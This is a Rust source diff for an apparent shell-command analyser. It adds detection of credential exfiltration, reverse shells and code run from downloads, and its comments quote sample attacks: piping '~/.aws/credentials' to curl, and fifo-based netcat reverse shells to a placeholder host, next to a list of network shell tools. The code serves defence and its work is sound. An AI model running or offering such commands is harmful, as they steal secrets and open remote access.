@@ -20,6 +20,9 @@ use crate::commands;
 use crate::env::KnownEnv;
 use crate::parse;
 use crate::salvage;
+use crate::harm;
+use crate::runners;
+use crate::written;
 use crate::words::{self, Arg};
 
 /// How many scripts-within-scripts (substitutions, `bash -c`, `eval`) are parsed before the
@@ -119,6 +122,15 @@ pub(crate) struct Found {
     /// changes the mode or owner of is known at run time (`find . -name x | xargs rm -rf`):
     /// a sandbox that confines writes to the project bounds what it can do.
     pub files_only: bool,
+    /// The command line reads a credential or the environment and this command sends data
+    /// to another machine.
+    pub exfiltrates: bool,
+    /// A shell of the command line reads from a pipe while this command talks to the
+    /// network (`mkfifo f; sh < f | nc HOST PORT > f`).
+    pub reverse_shell: bool,
+    /// It runs code that came from the network by a route the pipe rules do not see: a file
+    /// the line downloaded, a shell fed by a coprocess or a fifo while a download runs.
+    pub runs_download: bool,
 }
 
 impl Found {
@@ -142,7 +154,39 @@ impl Found {
 pub(crate) fn walk(command: &str, env: &HashMap<String, String>) -> Vec<Found> {
     let mut found = walk_with(command, env);
     mark_fork_bombs(&mut found);
+    mark_network(&mut found);
     found
+}
+
+/// Marks the commands that send data when another command of the same line reads a secret
+/// (`cat ~/.aws/credentials | curl -d @- …`), and the network commands of a line whose shell
+/// reads a pipe (`sh -i < f 2>&1 | nc HOST PORT > f`).
+fn mark_network(found: &mut [Found]) {
+    let secret = found.iter().any(harm::reads_secret);
+    let piped_shell = found.iter().any(|one| {
+        one.stdin == Stdin::Pipe
+            && one.unknown.as_deref().is_some_and(|reason| reason.contains("runs a script read from a pipe"))
+    });
+    let fetches = found.iter().any(|one| {
+        one.downloads()
+            || one.each_form().any(|form| {
+                commands::program(form).is_some_and(|name| matches!(name.as_str(), "nc" | "ncat" | "netcat" | "socat" | "telnet"))
+            })
+            || one.redirects.iter().any(|redirect| {
+                harm::dev_net_host(&redirect.target.text).is_some_and(|host| !harm::is_loopback(host))
+            })
+    });
+    for one in found.iter_mut() {
+        let sends = one.each_form().any(|form| harm::sends(one, form));
+        one.exfiltrates = secret && sends;
+        one.reverse_shell = piped_shell && sends && harm::raw_network(one);
+        let reads_unseen = one.unknown.as_deref().is_some_and(|reason| {
+            reason.contains("read from a pipe") || reason.contains("made from its input") || reason.contains("only known when the shell runs it")
+        });
+        if fetches && reads_unseen && (one.stdin != Stdin::Inherited || one.argv.first().is_some_and(|first| first.text == "eval")) {
+            one.runs_download = true;
+        }
+    }
 }
 
 fn walk_with(command: &str, env: &HashMap<String, String>) -> Vec<Found> {
@@ -229,6 +273,10 @@ struct Walker<'a> {
     /// The text of the script being walked, by character (brush-parser's locations count
     /// characters).
     text: Vec<char>,
+    /// Files the line wrote so far, and what they hold (`written.rs`).
+    written: Vec<(String, written::Content)>,
+    /// Where the commands of each `>(…)` of the current command start and end in `out`.
+    output_substitutions: Vec<(usize, usize)>,
 }
 
 impl Walker<'_> {
@@ -614,12 +662,24 @@ impl Walker<'_> {
                 }
             }
         }
+        let substitutions = std::mem::take(&mut self.output_substitutions);
         if argv.is_empty() && !has_own_redirects {
             // Only assignments: nothing runs but what their values ran.
             self.out.remove(slot);
             return;
         }
         self.finish(slot, argv, redirects);
+        // What a downloading command writes into `>(…)` is a download there too.
+        let carries = self.out[slot].downloads() || self.out[slot].stdin == Stdin::DownloadPipe;
+        if carries {
+            for (start, end) in substitutions {
+                for found in &mut self.out[start..end] {
+                    if found.stdin == Stdin::Pipe {
+                        found.stdin = Stdin::DownloadPipe;
+                    }
+                }
+            }
+        }
     }
 
     /// Records the command in `slot`, then walks what it runs: launcher scripts, scripts fed
@@ -634,6 +694,23 @@ impl Walker<'_> {
         for form in found.each_form() {
             for launch in commands::option_scripts(form) {
                 scripts.push((launch.script, launch.label, None));
+            }
+            for (script, label) in runners::texts(form)
+                .into_iter()
+                .chain(runners::git_texts(form))
+                .chain(exported_functions(form))
+            {
+                scripts.push((script, label, None));
+            }
+            if let Some(code) = inline_code(form) {
+                for script in runners::code_commands(&name_of(form), &code) {
+                    scripts.push((script, "code".to_owned(), None));
+                }
+            }
+            if runners::runs_its_input(form) && found.stdin != Stdin::Inherited {
+                unknown.get_or_insert_with(|| {
+                    "runs commands made from its input, which cannot be seen here".to_owned()
+                });
             }
             if let Some(launch) = commands::launch(form) {
                 launcher |= launch.transparent;
@@ -671,8 +748,39 @@ impl Walker<'_> {
             found.files_only = reason.is_some() && files_only;
             unknown = reason
                 .or_else(|| builtin::empty_expansion_deletes_root(&found))
-                .or_else(|| builtin::file_system_on_unknown_device(&found));
+                .or_else(|| builtin::file_system_on_unknown_device(&found))
+                .or_else(|| harm::startup_write_unseen(&found))
+                .or_else(|| harm::remote_ask(&found));
         }
+        for ran in written::runs(&found) {
+            let contents = if ran == ".git/hooks/" {
+                written::hooks(&self.written)
+            } else {
+                written::lookup(&self.written, &ran).into_iter().collect()
+            };
+            for content in contents {
+                match content {
+                    written::Content::Known(text) if written::is_shell_script(&found, &ran, &text) => {
+                        scripts.push((text, format!("{ran} (written above)"), None));
+                    }
+                    written::Content::Known(text) => {
+                        let language = found.each_form().map(name_of).find(|name| commands::is_language_interpreter(name)).unwrap_or_default();
+                        for script in runners::code_commands(&language, &text) {
+                            scripts.push((script, format!("{ran} (written above)"), None));
+                        }
+                    }
+                    written::Content::Download => found.runs_download = true,
+                    written::Content::Clone => {
+                        unknown.get_or_insert_with(|| format!("runs `{ran}` from a repository cloned in this same command"));
+                    }
+                    written::Content::Unknown => {
+                        unknown.get_or_insert_with(|| format!("runs `{ran}`, written earlier in this command with content that cannot be seen here"));
+                    }
+                }
+            }
+        }
+        let writes = written::writes(&found, &self.written);
+        self.written.extend(writes);
         found.launcher = launcher;
         if found.unknown.is_none() {
             found.unknown = unknown;
@@ -879,7 +987,14 @@ impl Walker<'_> {
             ast::ProcessSubstitutionKind::Write => ">(…)",
         };
         let start = self.out.len();
+        if matches!(kind, ast::ProcessSubstitutionKind::Write) {
+            // `>(sh)` reads what the command writes.
+            self.launch_stdin = Some(Stdin::Pipe);
+        }
         self.inside(label, |walker| walker.compound_list(&subshell.list, &[]));
+        if matches!(kind, ast::ProcessSubstitutionKind::Write) {
+            self.output_substitutions.push((start, self.out.len()));
+        }
         let download = self.out[start..].iter().any(Found::downloads);
         Arg {
             text: label.to_owned(),
@@ -1051,6 +1166,43 @@ impl Walker<'_> {
                 | WordPiece::EscapeSequence(_) => {}
             }
         }
+    }
+}
+
+/// Functions exported through the environment (`env 'BASH_FUNC_f%%=() { …; }' bash -c f`):
+/// their bodies, which the child bash defines and may run.
+fn exported_functions(form: &[Arg]) -> Vec<(String, String)> {
+    form.iter()
+        .skip(1)
+        .filter_map(|arg| {
+            let (name, body) = arg.text.split_once('=')?;
+            let name = name.strip_prefix("BASH_FUNC_")?;
+            let body = body.trim_start().strip_prefix("()")?;
+            Some((body.to_owned(), format!("BASH_FUNC_{name}")))
+        })
+        .collect()
+}
+
+fn name_of(form: &[Arg]) -> String {
+    commands::program(form).unwrap_or_default()
+}
+
+/// The code an interpreter is given on its command line (`python -c CODE`, `awk 'PROGRAM'`).
+fn inline_code(form: &[Arg]) -> Option<String> {
+    let name = commands::program(form)?;
+    if matches!(name.as_str(), "awk" | "gawk" | "mawk" | "nawk") {
+        return form
+            .iter()
+            .skip(1)
+            .find(|arg| !arg.text.starts_with('-'))
+            .map(|arg| arg.text.clone());
+    }
+    if !commands::is_language_interpreter(&name) {
+        return None;
+    }
+    match commands::program_source(form)? {
+        commands::ProgramSource::Inline(arg) => Some(arg.text.clone()),
+        _ => None,
     }
 }
 
